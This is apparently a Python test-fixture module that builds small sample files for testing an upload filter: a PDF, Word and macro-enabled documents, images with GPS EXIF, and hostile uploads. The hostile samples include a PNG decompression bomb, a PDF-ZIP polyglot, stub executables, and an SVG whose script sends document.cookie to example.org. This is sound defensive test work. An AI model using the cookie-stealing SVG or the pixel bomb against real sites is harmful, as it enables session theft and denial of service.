"""Small real files for tests, made here byte by byte: a well-formed one-page PDF (header, objects, xref,
trailer), a Word document, images, and the files an attacker uploads (programs, web pages, polyglots,
a pixel bomb)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image as PILImage


def small_pdf() -> bytes:
    """A minimal well-formed one-page PDF (header, objects, xref, trailer, %%EOF)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


# --- Upload matrix (issue 13): every kind of file an editor or an attacker may upload, made here --------


def docx(*, macros: bool = False) -> bytes:
    """A minimal Word document (OOXML): [Content_Types].xml, the package relations and one paragraph of Thai.

    With `macros`, a `word/vbaProject.bin` and the macro-enabled content type, as Word writes a .docm."""
    main = (
        "application/vnd.ms-word.document.macroEnabled.main+xml"
        if macros
        else ("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    )
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        "</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
        "<w:t>ประกาศมหาวิทยาลัยราชภัฏเพชรบูรณ์ เรื่อง รับสมัครนักศึกษาใหม่</w:t></w:r></w:p></w:body></w:document>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", rels)
        archive.writestr("word/document.xml", document)
        if macros:
            archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    return buffer.getvalue()


def png(size: tuple[int, int] = (64, 36), colour: tuple[int, int, int] = (40, 70, 140)) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", size, colour).save(buffer, format="PNG")
    return buffer.getvalue()


#: Where the photo with GPS was "taken": the university's main building (degrees, minutes, seconds).
GPS_NORTH = (16.0, 25.0, 12.5)
GPS_EAST = (101.0, 9.0, 30.25)


def jpeg_with_gps(size: tuple[int, int] = (80, 40), orientation: int = 6) -> bytes:
    """A JPEG whose EXIF holds a GPS position, a camera and an orientation (6: shown turned 90° clockwise)."""
    exif = PILImage.Exif()
    exif[0x010F] = "PCRU Camera"  # Make
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: GPS_NORTH, 3: "E", 4: GPS_EAST}  # GPSInfo IFD
    buffer = io.BytesIO()
    PILImage.new("RGB", size, (200, 120, 40)).save(buffer, format="JPEG", exif=exif, quality=90)
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def pixel_bomb_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG whose header claims width × height pixels (900 megapixels by default) with a few bytes of data:
    decoding it would take gigabytes; it costs nothing to make or to refuse from the header."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + _png_chunk(b"IEND", b"")
    )


def windows_exe() -> bytes:
    """The first bytes of a Windows PE program: the MZ header pointing at a PE signature."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(dos) + b"\x00" * (0x80 - len(dos)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 400


def linux_elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300


def html_page() -> bytes:
    return (
        '<!DOCTYPE html><html lang="th"><head><meta charset="utf-8"><title>ประกาศ</title></head>'
        "<body><h1>ประกาศผลสอบ</h1><script>fetch('/admin/').then(r => r.text())</script></body></html>"
    ).encode()


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(1)">'
        b"<script>document.location='https://example.org/?c='+document.cookie</script>"
        b'<rect width="64" height="64" fill="#28468c"/></svg>'
    )


def pdf_zip_polyglot() -> bytes:
    """A well-formed PDF with a ZIP archive (holding an HTML page) appended: valid as both."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", html_page())
    return small_pdf() + buffer.getvalue()
